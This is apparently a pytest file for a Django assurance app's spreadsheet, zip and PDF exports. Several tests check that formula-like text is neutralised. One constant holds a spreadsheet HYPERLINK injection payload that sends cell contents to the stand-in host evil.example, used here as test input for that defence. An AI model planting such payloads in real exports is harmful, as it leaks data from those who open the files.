"""Exports people can use (issue 12 item 5) and that carry no formula (issue 10 item 5): read
back as a spreadsheet program reads them, a formula-like name is text, numbers and dates stay
numbers and dates, one table a sheet or file with its header in the first row."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from oversight.assurance.suppression import HIDDEN, SUPPRESSED
from oversight.assurance.tables import Table, csv_export, xlsx_bytes
from oversight.core.testing import today_is

from .exported import csv_tables

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv_rows(content: bytes) -> list[list[str]]:
    ((_name, rows),) = csv_tables(content)
    return rows


def _xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    sheets = [sheet for sheet in book.worksheets if sheet.title != "About"]
    return [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_beginning_with_a_formula_is_exported_as_text(
    cast: Any, client: Any, held: Any, fmt: str
) -> None:
    cast.practitioner.given_name = EVIL
    cast.practitioner.save()
    held(cast.practitioner, 60)
    client.force_login(cast.line_manager)
    response = client.get(reverse("assurance:compliance_export", args=[fmt]))
    assert response.status_code == 200
    name = f"'{EVIL} {cast.practitioner.family_name}"
    if fmt == "csv":
        names = [row[0] for row in _csv_rows(response.content)]
        assert name in names
        assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t", "\r"))]
    else:
        cells = _xlsx_cells(response.content)
        assert name in [c.value for c in cells]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_exports_neutralise_formula_text_and_keep_numbers_and_dates() -> None:
    table = Table(
        key="t",
        caption="+caption",
        columns=["@Team", "Change", "On", "Share"],
        rows=[
            ["-Assessment", -3, dt.date(2026, 11, 17), 12.5],
            ["\tTab", 0, None, "=1+1"],
            ["\rReturn", 7, dt.date(2027, 2, 28), "Plain text"],
        ],
    )
    content, filename, media_type = csv_export([table], stem="figures")
    assert (filename, media_type) == ("figures.csv", "text/csv; charset=utf-8")
    assert _csv_rows(content) == [
        ["'@Team", "Change", "On", "Share"],
        ["'-Assessment", "-3", "2026-11-17", "12.5"],
        ["'\tTab", "0", "", "'=1+1"],
        ["'\rReturn", "7", "2027-02-28", "Plain text"],
    ]
    cells = _xlsx_cells(xlsx_bytes([table]))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.coordinate: c.value for c in cells}
    assert values["A1"] == "'@Team" and values["A2"] == "'-Assessment"
    assert values["B2"] == -3 and values["D2"] == 12.5
    assert values["C2"] == dt.datetime(2026, 11, 17)
    assert values["D3"] == "'=1+1"


def _figures(*more: Table) -> list[Table]:
    return [
        Table(
            key="trend",
            caption="Staff supervised within their interval, last 12 months",
            columns=["Month end", "% supervised (all)", "Northshire CSC", "Northshire Health"],
            rows=[
                [dt.date(2026, 10, 31), 81, 77, SUPPRESSED],
                [dt.date(2026, 11, 30), 84, HIDDEN, 90],
            ],
        ),
        *more,
    ]


def test_each_xlsx_sheet_is_one_table_with_its_header_in_row_1_frozen_and_filtered() -> None:
    children = Table(
        key="children",
        caption="Children in need: discussed?",
        columns=["Agency", "Children"],
        rows=[["Northshire CSC", 12]],
    )
    book = load_workbook(
        io.BytesIO(xlsx_bytes(_figures(children), about=[("Period", "1 Sep 2026 to 30 Nov 2026")]))
    )
    assert book.sheetnames == [
        "Staff supervised within their",
        "Children in need discussed",
        "About",
    ]
    trend = book["Staff supervised within their"]
    assert [c.value for c in trend[1]] == [
        "Month end",
        "% supervised (all)",
        "Northshire CSC",
        "Northshire Health",
        "Note",
    ]
    assert trend.freeze_panes == "A2"
    assert trend.auto_filter.ref == "A1:E3"
    assert trend["A2"].value == dt.datetime(2026, 10, 31) and trend["A2"].is_date
    assert trend["A2"].number_format == "d mmm yyyy"
    # A withheld figure leaves its numeric column empty, and the note says why.
    assert [c.value for c in trend[2]] == [
        dt.datetime(2026, 10, 31),
        81,
        77,
        None,
        "Northshire Health: Fewer than 5",
    ]
    assert [c.value for c in trend[3]][2:] == [None, 90, "Northshire CSC: Hidden"]
    about = [[c.value for c in row] for row in book["About"].iter_rows()]
    assert ["Children in need discussed", "Children in need: discussed?", None] in about
    assert ["Period", "1 Sep 2026 to 30 Nov 2026", None] in about


def test_several_tables_come_as_a_zip_of_one_csv_each_with_a_byte_order_mark() -> None:
    children = Table(
        key="children",
        caption="Children in need",
        columns=["Agency", "Children"],
        rows=[["Żaneta's agency", 12]],
    )
    content, filename, media_type = csv_export(
        _figures(children), stem="partnership-20260901-20261130"
    )
    assert (filename, media_type) == ("partnership-20260901-20261130.zip", "application/zip")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        assert names == [
            "01 Staff supervised within their interval, last 12 months.csv",
            "02 Children in need.csv",
        ]
        assert all(archive.read(n).startswith(b"\xef\xbb\xbf") for n in names)
    tables = dict(csv_tables(content))
    assert tables["02 Children in need.csv"] == [["Agency", "Children"], ["Żaneta's agency", "12"]]
    # The page's figures and withheld markers, with dates as every spreadsheet reads them.
    assert tables[names[0]][1] == ["2026-10-31", "81", "77", "Fewer than 5"]


def test_the_partnership_export_downloads_as_a_zip_named_for_the_period(
    cast: Any, client: Any
) -> None:
    with today_is(dt.date(2026, 12, 6)):
        client.force_login(cast.auditor)
        response = client.get(reverse("assurance:partnership_export", args=["csv"]))
    assert response.status_code == 200, response.content.decode()[:3000]
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="partnership-')
    assert response["Content-Disposition"].endswith('.zip"')
    assert len(csv_tables(response.content)) > 1


def test_the_board_report_opens_with_the_headline_and_its_trend_before_the_tables() -> None:
    from django.template.loader import render_to_string
    from pypdf import PdfReader
    from weasyprint import HTML

    from oversight.assurance.selectors import Period
    from oversight.assurance.tables import headlines

    months = [dt.date(2026, m, 28) for m in range(1, 13)]
    trend = Table(
        key="trend",
        caption="Staff supervised within their interval, last 12 months",
        columns=["Month end", "% supervised within their interval (all)"],
        rows=[[day, 70 + n] for n, day in enumerate(months)],
        chart_column=1,
        chart_kind="line",
    )
    many = Table(
        key="people",
        caption="A long table",
        columns=["Team", "People"],
        rows=[[f"Team {n}", n] for n in range(120)],
    )
    (headline,) = headlines([trend, many])
    assert headline.question == "Are staff supervised on time?"
    assert headline.figure == "81% on 28 Dec 2026"
    assert headline.direction == "Up 11 percentage points since 28 Jan 2026 (70%)."
    html = render_to_string(
        "assurance/board_report.html",
        {
            "tables": [trend, many],
            "headlines": [headline],
            "title": "Partnership assurance",
            "period": Period(dt.date(2026, 1, 1), dt.date(2026, 12, 31)),
            "generated_at": dt.datetime(2027, 1, 4, 9, 0),
        },
    )
    assert "<polyline" in html
    pages = [
        " ".join(p.extract_text().split())
        for p in PdfReader(io.BytesIO(HTML(string=html).write_pdf())).pages
    ]
    assert "Are staff supervised on time? 81% on 28 Dec 2026" in pages[0]
    assert "Team 0" not in pages[0]  # the tables start after the summary page
    # No row is split across pages: each team's name and figure stay on one page.
    for n in range(120):
        assert any(f"Team {n} {n}" in page for page in pages[1:]), n


def test_the_trend_on_the_dashboard_is_a_line_that_scales_to_the_screen(
    cast: Any, client: Any
) -> None:
    with today_is(dt.date(2026, 12, 6)):
        client.force_login(cast.auditor)
        html = client.get(reverse("assurance:partnership_dashboard")).content.decode()
    assert 'class="ov-chart__svg"' in html
    assert 'width="640"' not in html  # the SVG takes the width of its column
